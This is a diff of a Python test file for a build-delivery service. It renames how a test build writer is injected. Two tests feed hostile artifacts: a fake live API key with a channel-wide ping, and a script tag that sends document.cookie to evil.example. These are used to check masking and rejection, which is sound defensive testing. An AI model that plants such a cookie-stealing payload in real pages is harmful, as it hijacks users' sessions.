@@ -86,7 +86,7 @@ class FlakyWriter(OfflineBuildWriter):
 
 async def test_resumed_build_skips_finished_milestones(services):
     pid = await make_project(services, price="3000", milestones=4)
-    services.extras["build_writer"] = writer = FlakyWriter(fail_seq=3, failures=1)
+    services.build_writer = writer = FlakyWriter(fail_seq=3, failures=1)
     services.queue = None  # run the build by hand
     await op(services, DELIVERY, deliver_project, pid)
     with pytest.raises(RuntimeError):
@@ -110,7 +110,7 @@ async def test_resumed_build_skips_finished_milestones(services):
 async def test_failures_retry_then_fail_the_project_and_tell_the_team(services):
     services.settings.build_max_tries = 3
     services.settings.build_retry_seconds = 0
-    services.extras["build_writer"] = writer = FlakyWriter(fail_seq=2, failures=99)
+    services.build_writer = writer = FlakyWriter(fail_seq=2, failures=99)
     pid = await make_project(services, price="3000", milestones=3)
     await op(services, DELIVERY, deliver_project, pid)
     await services.queue.join()
@@ -164,7 +164,7 @@ class HostileWriter(OfflineBuildWriter):
 
 
 async def test_artifacts_are_masked_by_hunter_before_they_are_stored(services):
-    services.extras["build_writer"] = HostileWriter("\n<!channel> token sk_live_51HqLyjWDarjtT1zdp7dcXyz12\n")
+    services.build_writer = HostileWriter("\n<!channel> token sk_live_51HqLyjWDarjtT1zdp7dcXyz12\n")
     pid = await make_project(services, price="3000", milestones=2)
     await op(services, DELIVERY, deliver_project, pid)
     await services.queue.join()
@@ -178,7 +178,7 @@ async def test_artifacts_are_masked_by_hunter_before_they_are_stored(services):
 
 
 async def test_a_script_in_an_artifact_fails_the_build_and_stores_nothing(services):
-    services.extras["build_writer"] = HostileWriter("<script>fetch('https://evil.example/'+document.cookie)</script>")
+    services.build_writer = HostileWriter("<script>fetch('https://evil.example/'+document.cookie)</script>")
     pid = await make_project(services, price="3000", milestones=2)
     await op(services, DELIVERY, deliver_project, pid)
     await services.queue.join()
